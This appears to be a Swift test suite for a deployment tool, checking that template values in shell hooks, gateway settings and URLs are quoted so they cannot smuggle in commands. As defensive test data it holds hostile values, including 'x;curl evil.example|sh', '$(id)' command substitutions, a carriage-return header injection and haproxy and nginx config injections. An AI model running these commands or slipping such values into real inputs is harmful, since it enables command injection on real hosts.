import Foundation
import RolloutText
import Testing

@testable import RolloutConfig
@testable import RolloutCore

/// Values in shell text are data: every `{{ x }}` in a hook, a command check, a gateway command or an nginx
/// reload becomes one shell word, whatever it holds, unless written `{{ x | raw }}`.
@Suite struct TemplateQuotingTests {
    static let hostile = "main;touch /tmp/pwned|sh $(id) `id` \"x\" 'y' \\z"

    private func shellText(_ text: String, line: Int = 7) throws -> Template {
        try Template.parse(
            text, origin: ConfigOrigin(file: "pb.yml", line: line, key: "hooks.after_verify[0]"),
            context: .shell
        ).get()
    }

    private func render(_ text: String, _ values: [String: String]) throws -> String {
        try shellText(text).render(in: VariableScope(values.mapValues(ConfigValue.string))).get()
    }

    /// What `sh -c script` prints, run by the real `/bin/sh` in a fresh directory; and that directory's files
    /// afterwards (an injected `touch` would leave one).
    private func run(_ script: String) throws -> (output: String, files: [String]) {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("quote-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/sh")
        process.arguments = ["-c", script]
        process.currentDirectoryURL = dir
        let pipe = Pipe()
        process.standardOutput = pipe
        try process.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        #expect(process.terminationStatus == 0, "\(script)")
        return (String(decoding: data, as: UTF8.self), try FileManager.default.contentsOfDirectory(atPath: dir.path))
    }

    @Test func anInjectedCommandRendersAsOneInertArgument() throws {
        let script = try render("printf '<%s>\\n' {{ branch }}", ["branch": ";touch pwned|sh"])
        #expect(script == "printf '<%s>\\n' ';touch pwned|sh'")
        let result = try run(script)
        #expect(result.output == "<;touch pwned|sh>\n")
        #expect(result.files.isEmpty)
    }

    @Test func quoteIsTheDefaultAndIsNotAppliedTwice() throws {
        let values = ["branch": Self.hostile]
        #expect(try render("echo {{ branch | quote }}", values) == render("echo {{ branch }}", values))
        #expect(try render("echo {{branch|quote}}", ["branch": "v1.2"]) == "echo v1.2")
        #expect(try run(render("printf '%s' {{ branch | quote }}", values)).output == Self.hostile)
    }

    @Test func rawInsertsTheValueAsShellCode() throws {
        let script = try render("{{ cmd | raw }} && echo {{ cmd }}", ["cmd": "echo a; echo b"])
        #expect(script == "echo a; echo b && echo 'echo a; echo b'")
        #expect(try run(script).output == "a\nb\necho a; echo b\n")
    }

    @Test func valuesNextToTextStayInTheirWord() throws {
        let values = ["a": "web 1", "b": Self.hostile, "v": "2.0"]
        // `case WORD in`: safe values are written as they are, so the patterns written beside them still match.
        #expect(
            try render("case {{ v }}-x in 2.0-x) echo hit;; esac", values) == "case 2.0-x in 2.0-x) echo hit;; esac")
        #expect(
            try run(render("case {{ a }}-{{ v }} in 'web 1-2.0') echo hit;; *) echo miss;; esac", values)).output
                == "hit\n")
        #expect(try run(render("printf '<%s>' {{ a }}-{{ b }}/x", values)).output == "<web 1-\(Self.hostile)/x>")
    }

    @Test func valuesInsideQuotesOfTheTemplateStayOneWordWithTheirText() throws {
        let values = ["b": Self.hostile, "v": "2.0"]
        #expect(try render("echo \"on {{ v }}\"", values) == "echo \"on 2.0\"")
        let cases: [(String, String)] = [
            ("printf '<%s>' \"on {{ b }} now\"", "<on \(Self.hostile) now>"),
            ("printf '<%s>' 'on {{ b }} now'", "<on \(Self.hostile) now>"),
            ("printf '<%s>' \"$(printf '%s' {{ b }})\"", "<\(Self.hostile)>"),
            ("printf '<%s>' \"it's {{ b }}\"", "<it's \(Self.hostile)>"),
            ("printf '<%s>' \\'{{ b }}", "<'\(Self.hostile)>"),
            ("printf '<%s>' \"{{ empty }}\"", "<>"),
        ]
        for (template, expected) in cases {
            let script = try render(template, values.merging(["empty": ""]) { a, _ in a })
            let result = try run(script)
            #expect(result.output == expected, "\(template) → \(script)")
            #expect(result.files.isEmpty, "\(template) → \(script)")
        }
    }

    @Test func hereDocumentsAndEscapesThatNoQuotingMakesSafeAreRejected() throws {
        func problem(_ text: String) -> String? {
            if case .failure(let problem) = Template.parse(text, origin: ConfigOrigin(file: "f"), context: .shell) {
                return problem.message
            }
            return nil
        }
        // In an unquoted here-document `'$(touch x)'` runs; in any, a value line `EOF` ends it.
        #expect(problem("cat > f <<EOF\n{{ b }}\nEOF") ?? "" != "")
        #expect(problem("cat > f <<-'EOF'\n\t{{ b }}\n\tEOF\n") ?? "" != "")
        #expect(problem("echo \\{{ b }}")?.contains("would escape the value's first character") == true)
        // `| raw` is the explicit way; after the document ends, values are quoted again.
        #expect(problem("cat <<EOF\n{{ b | raw }}\nEOF") == nil)
        let values = ["b": Self.hostile, "n": "3"]
        let after = try render("cat > doc <<'EOF'\nline\nEOF\nprintf '<%s>' {{ b }} \"$(( {{ n }} << 1 ))\"", values)
        #expect(try run(after).output == "<\(Self.hostile)><6>")
        // `<<<` (a bash here-string) takes a word: the value is quoted as one.
        #expect(try render("cat <<< {{ b }}", values) == "cat <<< " + ShellQuote.quote(Self.hostile))
        #expect(try run(render("echo '\\' {{ b }}", values)).output == "\\ \(Self.hostile)\n")
    }

    @Test func aVariableWhoseValueIsATemplateIsQuotedAsAWhole() throws {
        let scope = VariableScope([
            "branch": .string("a;b"), "label": .string("{{ branch | quote }}-x"),
        ])
        #expect(try shellText("echo {{ label }}").render(in: scope).get() == "echo 'a;b-x'")
    }

    @Test func unknownFiltersAndFiltersOutsideShellTextAreReportedWhereWritten() throws {
        let body = """
            hooks:
              after_verify:
                - run: "echo {{ branch | upper }}"
            """
        let error = try #require(throws: ConfigError.self) { try PlanFixtures.playbook(body) }
        #expect(error.file == "playbooks/test.yml")
        #expect(error.line == 5)
        #expect(error.key == "hooks.after_verify[0].run")
        #expect(error.message.contains("unknown filter `upper`"))
        let url = try #require(throws: ConfigError.self) {
            try PlanFixtures.playbook("health:\n  - {type: http, url: \"http://{{ host.address | quote }}/\"}\n")
        }
        #expect(url.key == "health[0].url")
        #expect(url.message.contains("applies only to shell text"))
    }

    @Test func theHookInThePlanIsTheQuotedCommandLine() throws {
        let plan = try PlanFixtures.plan(
            "hooks:\n  after_verify: \"echo deployed {{ branch }} on {{ inventory_hostname }}\"\n",
            hosts: 2, vars: ["branch": .string("x;curl evil.example|sh")])
        let hooks = plan.hosts[0].steps.flatMap(\.actions).compactMap { action -> PlannedCommand? in
            if case .run(let command, .some) = action { return command }
            return nil
        }
        #expect(hooks.map(\.argv) == [["sh", "-c", "echo deployed 'x;curl evil.example|sh' on h01"]])
        #expect(hooks.map(\.line) == [#"sh -c 'echo deployed '\''x;curl evil.example|sh'\'' on h01'"#])
    }

    @Test func aLineBreakInAURLOrPathValueIsAnErrorAtItsPlace() throws {
        let error = try #require(throws: ConfigError.self) {
            try PlanFixtures.plan(
                "health:\n  - {type: http, url: \"http://127.0.0.1:8080/{{ path }}\"}\n",
                vars: ["path": .string("ok\r\nX-Injected: 1")])
        }
        #expect(error.code == .invalidValue)
        #expect(error.key == "health[0].url")
        #expect(error.line == 4)
        #expect(error.message.contains("holds a carriage return"))
    }

    @Test func gatewayNamesThatWouldBreakTheirRequestsAreErrors() throws {
        let haproxy = """
            strategy: drain
            gateway: {type: haproxy, socket: /run/haproxy.sock, backend: web, server: "{{ lb_name }}"}

            """
        let error = try #require(throws: ConfigError.self) {
            try PlanFixtures.plan(haproxy, vars: ["lb_name": .string("h1 state ready;shutdown sessions")])
        }
        #expect(error.key == "gateway.server")
        #expect(error.line == 4)
        #expect(error.message.contains("holds a space"))
        let literal = try #require(throws: ConfigError.self) {
            try PlanFixtures.playbook("strategy: drain\ngateway: {type: haproxy, socket: /s, backend: \"web;x\"}\n")
        }
        #expect(literal.key == "gateway.backend")
        #expect(literal.message.contains("holds `;`"))
        let lvs = try #require(throws: ConfigError.self) {
            try PlanFixtures.playbook(
                "strategy: drain\ngateway: {type: lvs, virtual_service: \"tcp:10.0.0.1:80\", real_server: \"-w9\"}\n")
        }
        #expect(lvs.key == "gateway.real_server")
        let nginx = try #require(throws: ConfigError.self) {
            try PlanFixtures.plan(
                "strategy: drain\ngateway: {type: nginx, upstream_file: /u.conf, server: \"{{ addr }}\"}\n",
                vars: ["addr": .string("10.0.0.1:80;\nserver evil:80")])
        }
        #expect(nginx.key == "gateway.server")
        #expect(try PlanFixtures.plan(haproxy, vars: ["lb_name": .string("h1.example:web-1_a")]).hosts.count == 10)
    }
}
